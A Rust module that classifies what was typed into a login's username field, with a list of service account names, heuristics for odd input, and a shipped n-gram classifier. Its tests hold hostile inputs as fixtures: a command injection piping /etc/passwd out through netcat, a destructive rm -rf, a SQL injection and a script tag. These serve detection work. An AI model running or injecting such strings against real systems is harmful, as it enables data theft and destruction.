//! What was typed where a user name belongs.
//!
//! A list knows service accounts by name; a classifier of n-grams ([`learn::text`]) tells the rest: a password typed at
//! the wrong prompt, a command, a piece of SQL. docs/logins.md says how it was trained and how often it is wrong.

use learn::text::{Classifier, Gram};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// The shipped classifier, made by `cargo xtask text`.
const MODEL: &[u8] = include_bytes!("../../../../models/usernames.bin");

/// What a name is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum NameKind {
    /// Somebody's name: `alice`, `j.smith`.
    Person,
    /// An account of software: `postgres`, `svc-backup`.
    ServiceAccount,
    /// An e-mail address.
    Email,
    /// What people choose as a password.
    PasswordLike,
    /// A command for a shell.
    Command,
    /// SQL, a script, or a template that is to be evaluated.
    SqlOrScript,
    /// Letters and digits drawn by lot: tokens, session names.
    Random,
}

impl NameKind {
    /// Every kind, in the order of the classifier's classes.
    pub const ALL: [Self; 7] = [
        Self::Person,
        Self::ServiceAccount,
        Self::Email,
        Self::PasswordLike,
        Self::Command,
        Self::SqlOrScript,
        Self::Random,
    ];

    /// The name as serialised.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Person => "person",
            Self::ServiceAccount => "service_account",
            Self::Email => "email",
            Self::PasswordLike => "password_like",
            Self::Command => "command",
            Self::SqlOrScript => "sql_or_script",
            Self::Random => "random",
        }
    }
}

/// Accounts that Debian's packages and common software make, and those that installers suggest. Sorted.
pub const SERVICE_ACCOUNTS: &[&str] = &[
    "_apt",
    "airflow",
    "amanda",
    "ansible",
    "apache",
    "apache2",
    "argocd",
    "asterisk",
    "avahi",
    "backup",
    "backuppc",
    "bacula",
    "bareos",
    "bin",
    "bind",
    "bitbucket",
    "bitcoin",
    "cacti",
    "caddy",
    "cassandra",
    "centreon",
    "ceph",
    "chrony",
    "clamav",
    "clickhouse",
    "collectd",
    "colord",
    "confluence",
    "consul",
    "couchdb",
    "cron",
    "cups",
    "daemon",
    "debian-exim",
    "deploy",
    "deployer",
    "dhcpd",
    "dnsmasq",
    "docker",
    "dovecot",
    "dovenull",
    "druid",
    "elastic",
    "elasticsearch",
    "es",
    "etcd",
    "exim",
    "filebeat",
    "flink",
    "fluentd",
    "freeswitch",
    "ftp",
    "ftpuser",
    "games",
    "gdm",
    "geoclue",
    "git",
    "gitea",
    "gitlab",
    "gitlab-runner",
    "gnats",
    "gogs",
    "grafana",
    "graylog",
    "hadoop",
    "haproxy",
    "hbase",
    "hdfs",
    "hive",
    "hplip",
    "icinga",
    "influxdb",
    "informix",
    "irc",
    "jboss",
    "jenkins",
    "jira",
    "kafka",
    "keycloak",
    "kibana",
    "kubernetes",
    "ldap",
    "libvirt-qemu",
    "lighttpd",
    "list",
    "logstash",
    "lp",
    "mail",
    "mailman",
    "mailnull",
    "man",
    "mariadb",
    "memcached",
    "messagebus",
    "minecraft",
    "minio",
    "mongo",
    "mongod",
    "mongodb",
    "mosquitto",
    "mqtt",
    "mssql",
    "munin",
    "mysql",
    "nagios",
    "named",
    "neo4j",
    "netdata",
    "news",
    "nexus",
    "nfs",
    "nfsnobody",
    "nginx",
    "nobody",
    "node",
    "nomad",
    "ntp",
    "odoo",
    "openldap",
    "openvpn",
    "oracle",
    "ossec",
    "packer",
    "pgadmin",
    "pgbouncer",
    "php-fpm",
    "plex",
    "pm2",
    "polkitd",
    "postfix",
    "postgres",
    "postgresql",
    "proftpd",
    "prometheus",
    "proxy",
    "pulse",
    "puppet",
    "rabbitmq",
    "radiusd",
    "rdma",
    "redis",
    "redmine",
    "rpc",
    "rpcuser",
    "rstudio",
    "rsync",
    "rtkit",
    "rundeck",
    "saltmaster",
    "samba",
    "saned",
    "sapadm",
    "sddm",
    "sentry",
    "shutdown",
    "solr",
    "sonar",
    "sonarqube",
    "spamd",
    "spark",
    "splunk",
    "squid",
    "sshd",
    "steam",
    "storm",
    "svn",
    "sync",
    "sys",
    "syslog",
    "systemd-network",
    "systemd-resolve",
    "systemd-timesync",
    "tcpdump",
    "teamcity",
    "teamspeak",
    "telegraf",
    "tftp",
    "tomcat",
    "transmission",
    "ts3",
    "tss",
    "unbound",
    "usbmux",
    "uucp",
    "uuidd",
    "vagrant",
    "vault",
    "vbox",
    "vnc",
    "vsftpd",
    "weblogic",
    "webmaster",
    "whoopsie",
    "wildfly",
    "wordpress",
    "www",
    "www-data",
    "xrdp",
    "yarn",
    "zabbix",
    "zookeeper",
];

/// Words that begin or end the names of accounts made for software, with a sign between.
const SERVICE_WORDS: [&str; 8] = ["svc", "service", "srv", "sa", "app", "bot", "daemon", "sys"];

/// Whether a name is one of an account of software, by list or by habit of naming (`svc-backup`, `report_service`,
/// `oracle2`). Capital letters and what follows an `@` do not matter.
#[must_use]
pub fn is_service_account(name: &str) -> bool {
    let name = name.split('@').next().unwrap_or_default();
    // The longest of the list has 16 characters, and people may add a few.
    if name.is_empty() || name.len() > 40 || !name.is_ascii() {
        return false;
    }
    let name = name.to_ascii_lowercase();
    let listed = |n: &str| SERVICE_ACCOUNTS.binary_search(&n).is_ok();
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit());
    let mut parts = name.split(['-', '_', '.']);
    let (first, last) = (parts.next(), parts.next_back());
    let worded = |part: Option<&str>| part.is_some_and(|p| SERVICE_WORDS.contains(&p));
    listed(&name) || (stem.len() > 1 && listed(stem)) || (last.is_some() && (worded(first) || worded(last)))
}

/// Whether a name is made of what names are made of, so that it may be shown: small letters, digits, `.`, `_`, `-`, at most
/// 32, beginning with a letter or `_` (useradd(8)).
#[must_use]
pub fn is_plain(name: &str) -> bool {
    name.len() <= 32
        && name.starts_with(|c: char| c.is_ascii_lowercase() || c == '_')
        && name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._-".contains(&b))
}

/// Whether a name is worth the classifier: it has signs that names lack, or is mixed as passwords are. The classifier takes
/// some ten microseconds; most names, also those of dictionaries, need none of them.
#[must_use]
pub fn is_odd(name: &str) -> bool {
    let odd = |b: u8| !(b.is_ascii_alphanumeric() || b"._-@+\\$".contains(&b) || b >= 0x80);
    let has = |f: fn(&u8) -> bool| name.as_bytes().iter().any(f);
    name.bytes().any(odd)
        || (has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_digit))
        || (name.contains('$') && !name.ends_with('$'))
        // An address has one `@` and a domain behind it.
        || (name.contains('@') && !name.rsplit('@').next().is_some_and(|d| d.contains('.') && d.len() > 3))
}

/// What the rules want to know of a name: probabilities, 0..=1.
#[derive(Clone, Copy, Debug, PartialEq, Default, Serialize)]
pub struct NameReading {
    /// That it is a command, SQL or a script.
    pub command: f32,
    /// That it is a password.
    pub password: f32,
}

impl NameReading {
    /// Whether the name may be shown: a password typed at the wrong prompt must not be spread further.
    #[must_use]
    pub fn shows(&self) -> bool {
        self.password < 0.2
    }
}

/// What a name is, with the probability of each kind.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Name {
    /// The most probable kind.
    pub kind: NameKind,
    /// Its probability.
    pub confidence: f32,
    /// The probability of each, in the order of [`NameKind::ALL`].
    pub probabilities: [f32; 7],
}

/// Tells kinds of names apart.
#[derive(Clone, Debug)]
pub struct Names {
    classifier: Classifier,
}

impl Names {
    /// The shipped classifier.
    ///
    /// # Panics
    /// If the model this crate was built with is faulty, which a test rules out.
    #[must_use]
    pub fn builtin() -> Self {
        match learn::codec::from_bytes::<Classifier>(MODEL) {
            Ok(classifier) if classifier.classes().len() == NameKind::ALL.len() => Self { classifier },
            Ok(_) => panic!("the embedded model of user names has other classes"),
            Err(fault) => panic!("the embedded model of user names is faulty: {fault}"),
        }
    }

    /// What a name is.
    #[must_use]
    pub fn classify(&self, name: &str) -> Name {
        let mut probabilities = [0.0; 7];
        for (to, p) in probabilities.iter_mut().zip(self.classifier.predict(name)) {
            *to = p;
        }
        let best = learn::metric::largest(&probabilities);
        let kind = NameKind::ALL.get(best).copied().unwrap_or(NameKind::Random);
        Name { kind, confidence: probabilities.get(best).copied().unwrap_or_default(), probabilities }
    }

    /// The `n` n-grams that said most for a kind.
    #[must_use]
    pub fn reasons(&self, name: &str, kind: NameKind, n: usize) -> Vec<Gram> {
        self.classifier.reasons(name, kind as usize, n)
    }

    /// What the rules want to know of a name.
    #[must_use]
    pub fn read(&self, name: &str) -> NameReading {
        let p = self.classify(name).probabilities;
        let of = |kind: NameKind| p[kind as usize];
        NameReading {
            command: (of(NameKind::Command) + of(NameKind::SqlOrScript)).min(1.0),
            password: of(NameKind::PasswordLike),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_list_is_sorted_so_that_it_can_be_searched() {
        assert!(SERVICE_ACCOUNTS.is_sorted(), "{:?}", SERVICE_ACCOUNTS.windows(2).find(|w| w[0] > w[1]));
    }

    #[test]
    fn service_accounts_are_known_by_name_and_by_habit() {
        for name in
            ["postgres", "www-data", "oracle2", "svc-backup", "report_service", "Jenkins", "git@example.org"]
        {
            assert!(is_service_account(name), "{name}");
        }
        for name in ["alice", "root", "admin", "j.smith", "", "sa", "bot", "svcs", "1", &"a".repeat(100)] {
            assert!(!is_service_account(name), "{name}");
        }
    }

    #[test]
    fn odd_names_are_those_with_signs_or_mixtures() {
        for name in ["Summer2024!", "sudo rm -rf /", "a;b", "P@ssw0rd", "$(id)", "Tr0ub4dor", "x'--"] {
            assert!(is_odd(name), "{name}");
        }
        for name in [
            "alice",
            "j.smith",
            "alice@example.org",
            "CORP\\alice",
            "host$",
            "müller",
            "root",
            "ADMIN",
            "user1",
        ] {
            assert!(!is_odd(name), "{name}");
        }
    }

    #[test]
    fn the_shipped_classifier_knows_what_it_is_for() {
        let names = Names::builtin();
        for (name, kind, least) in [
            ("sudo rm -rf /", NameKind::Command, 0.95),
            ("; cat /etc/passwd | nc 192.0.2.1 99", NameKind::Command, 0.9),
            ("' OR '1'='1' --", NameKind::SqlOrScript, 0.9),
            ("<script>alert(1)</script>", NameKind::SqlOrScript, 0.9),
            ("alice@example.org", NameKind::Email, 0.9),
            ("Summer2024!", NameKind::PasswordLike, 0.9),
            ("P@ssw0rd123", NameKind::PasswordLike, 0.9),
        ] {
            let found = names.classify(name);
            assert_eq!(found.kind, kind, "{name}: {found:?}");
            assert!(found.confidence >= least, "{name}: {found:?}");
            assert!(!names.reasons(name, kind, 5).is_empty());
        }
    }
}
